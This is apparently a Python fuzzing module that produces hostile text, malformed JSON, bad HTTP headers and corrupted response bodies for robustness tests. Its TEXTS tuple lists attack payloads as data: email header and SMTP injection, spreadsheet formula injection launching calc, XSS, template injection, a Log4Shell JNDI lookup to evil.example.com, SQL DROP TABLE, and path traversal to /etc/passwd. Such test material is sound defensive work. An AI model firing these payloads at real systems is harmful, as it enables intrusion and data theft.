"""Texts and answers that somebody with bad intentions, or a broken program, might send."""

import json
import re

TEXTS = (
    "",
    " ",
    "\x00",
    "a\x00b",
    "\x1b[2J\x1b]0;owned\x07",
    "\x9b31m",
    "\x1b]8;;https://evil.example.com\x1b\\here\x1b]8;;\x1b\\",
    "\u202eevil\u202c",
    "\u2066\u2069\u200b\u200d\ufeff",
    "\ud800",
    "ab\udfffcd",
    "\U0001f984" * 300,
    "e\u0301" * 200,
    "\ufdfa" * 100,
    "9" * 400,
    "9" * 5000,
    "-" + "9" * 30,
    "1e999999",
    "NaN",
    "Infinity",
    "٣٠",
    "１５",
    "²",
    "0x10",
    "1_000",
    "+15",
    "\u00a015",
    "15\n",
    "9223372036854775808",
    "2147483648",
    "0.1",
    "1,5",
    "=?utf-8?q?hi=0ABcc=3A_everybody=40example.com?=",
    "=?utf-8?b?aGkKQmNjOiBldmVyeWJvZHlAZXhhbXBsZS5jb20=?=",
    "Robert\r\nBcc: everybody@example.com",
    "a\u2028Bcc: everybody@example.com",
    "a\x85Bcc: everybody@example.com",
    "a\x0bBcc: everybody@example.com",
    "\r\n.\r\nMAIL FROM:<evil@example.com>",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '"quoted", with; all\nthat',
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "{{ 77 * 1111 }}",
    "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${jndi:ldap://evil.example.com/a}",
    "%s%n%x{0}{a!r}",
    "'; DROP TABLE entries; --",
    "\\'; DROP TABLE entries; --",
    "[bold red]rich[/bold red]",
    "../../../../etc/passwd",
    "file:///etc/passwd",
    'a"} 1\nbytebridge_balance{x="',
    "ana@example.com, eve@example.com",
    "ana@example.com\r\nBcc: eve@example.com",
    "<ana@example.com>",
    "a@b@c",
    "@",
    "ana@exa mple.com",
    "a" * 300 + "@example.com",
    "ana@" + "x" * 300 + ".example.com",
    "ana@exämple.com",
    "ana@[127.0.0.1]",
    "0000-00-00 00:00:00",
    "9999-12-31 23:59:59",
    "0001-01-01 00:00:00",
    "2026-02-30 10:00:00",
    "2026-10-25 02:30:00",
    "2026-13-01",
    "true",
    "null",
    "I\u0307\u0131\u017f\u212a",
)  # fmt: skip


def deep(levels, end=1):
    value = end
    for _ in range(levels):
        value = [value]
    return value


VALUES = (
    None, True, False, 0, -1, 1, 3, 2**31, 2**53 + 1, 2**63, -(2**63) - 1, 10**40, 1.5, -0.0, 1e300, [], {}, [[]], [None],
    {"": ""}, {"a": {"b": [{}]}}, [{"id": "1"}], deep(40), ["x"] * 50,
)  # fmt: skip
# written into the text of an answer in the place of a value: no parser makes them, some take them
LITERALS = (
    b"NaN", b"-Infinity", b"1e999999", b"-1e-999999", b"9" * 400, b"9" * 5000, b"0." + b"3" * 3000, b"00", b"0x10", b"1_0",
    b"'x'", b"", b"\\", b'"\\ud800"', b'"\\u0000"', b'"\xff\xfe"', b'"\xed\xa0\x80"', b'"a\nb"', b"[" * 2000, b'{"a":' * 2000,
    b"[" * 200 + b"]" * 200, b'{"a":1,"a":2}', b"/* */1", b"undefined", b"nul", b"true,", b'"\xf0\x9f\xa6\x84"', b'"' + b"\\" * 999,
)  # fmt: skip
HEADERS_WORTH = {
    "Retry-After": ("0", "-1", "9" * 400, "9" * 5000, "1e9", "Thu, 01 Jan 9999 00:00:00 GMT", "Thu, 99 Zzz 0000 99:99:99"),
    "Date": ("Thu, 01 Jan 0001 00:00:00 +9999", "Thu, 01 Jan 1970 00:00:00 -0000", "9" * 5000, "Mon, 1 Jan 99999 0:0:0"),
    "Content-Type": ("text/html", "application/json; charset=utf-7", ";;;", "a/b; charset=" + "x" * 9000, "multipart/mixed"),
    "Content-Length": ("0", "1", "-1", "9" * 400, "9" * 5000, "5, 6", "0x10", "1_0"),
    "Content-Encoding": ("gzip", "deflate", "br", "zstd", "gzip, gzip, gzip, gzip, gzip, gzip, gzip", "identity"),
    "next_page_cursor": ("", "*", "9" * 5000),
    "Last-Modified": ("9999",),
    "Location": ("file:///etc/passwd",),
}  # fmt: skip
HEADERS = tuple(HEADERS_WORTH)
HUGE = 10_000_000  # characters


def spoilt(body, chance):
    """An answer with something wrong in it: a field, its text, its frame; now and then ten megabytes of it."""
    how = chance.random()
    if how < 0.72:
        return _in_a_field(body, chance)
    if how < 0.9:
        return _in_the_text(body, chance)
    return _in_the_frame(body, chance)


def headers(chance):
    """Some headers of an answer with a hostile value, as the HTTP library hands bytes on; now and then very many."""
    count = 90 if chance.random() < 0.05 else chance.choice((1, 1, 2))
    names = [chance.choice(HEADERS) for _ in range(count)] if count < 90 else [f"X-{n}" for n in range(count)]
    return {name: _header(name, chance) for name in names}


def _header(name, chance):
    if chance.random() < 0.4:
        return chance.choice(HEADERS_WORTH.get(name, ("",)))
    value = text(chance)[:60_000].encode("utf-8", "surrogatepass").decode("latin-1")
    return re.sub(r"[\r\n]+", " ", value).strip()


def text(chance):
    """One of the texts, two of them together, or noise."""
    if chance.random() < 0.8:
        found = chance.choice(TEXTS)
        return found + chance.choice(TEXTS) if chance.random() < 0.1 else found
    if chance.random() < 0.002:
        return "a" * HUGE
    return "".join(chr(chance.choice((chance.randrange(0x20), chance.randrange(0x300), chance.randrange(0x110000)))) for _ in range(chance.randrange(40)))  # fmt: skip


def _in_a_field(body, chance):
    try:
        value = json.loads(body)
    except ValueError:
        return _in_the_text(body, chance)
    places = list(_places(value))
    for _ in range(chance.choice((1, 1, 1, 2, 5))):
        if not places:
            return json.dumps(chance.choice(VALUES)).encode()
        holder, key = chance.choice(places)
        _spoil(holder, key, chance)
    return json.dumps(value, ensure_ascii=chance.random() < 0.5).encode("utf-8", "surrogatepass")


def _places(value):
    if isinstance(value, dict):
        for key, inner in value.items():
            yield value, key
            yield from _places(inner)
    elif isinstance(value, list):
        for number, inner in enumerate(value):
            yield value, number
            yield from _places(inner)


def _spoil(holder, key, chance):
    present = (isinstance(holder, dict) and key in holder) or (isinstance(holder, list) and key < len(holder))
    if not present:
        return
    how = chance.random()
    if how < 0.5:
        holder[key] = text(chance)
    elif how < 0.8:
        holder[key] = chance.choice(VALUES)
    elif how < 0.88:
        del holder[key]
    elif how < 0.94 and isinstance(holder, list):
        holder.append(holder[key])
    elif isinstance(holder, dict):
        holder[text(chance)] = holder[key]
    else:
        holder.insert(0, {})


def _in_the_text(body, chance):
    marks = [at for at, byte in enumerate(body) if byte in b":,["]
    if not marks:
        return chance.choice(LITERALS)
    at = chance.choice(marks) + 1
    ends = [end for mark in b",]}" if (end := body.find(mark, at)) >= 0]
    return body[:at] + chance.choice(LITERALS) + body[min(ends, default=len(body)) :]


def _in_the_frame(body, chance):
    how = chance.randrange(7)
    if how == 0:
        return body[: chance.randrange(len(body) + 1)]
    if how == 1:
        return b"\xef\xbb\xbf" + body
    if how == 2:
        return body + chance.choice((b"\x00", b"]", b"<br />", body))
    if how == 3:
        return body.decode("utf-8", "replace").encode("utf-16")
    if how == 4:
        return chance.choice((b"", b"null", b"0", b'""', b"[]", b"{}", b"[[]]", b"[null]", b"[{}]", b'{"errors": 1}'))
    if how == 5:
        return b"[" * 100_000 if chance.random() < 0.5 else b'{"a":' * 50_000
    at = chance.randrange(len(body) + 1)
    return body[:at] + bytes(chance.randrange(256) for _ in range(3)) + body[at + 3 :]
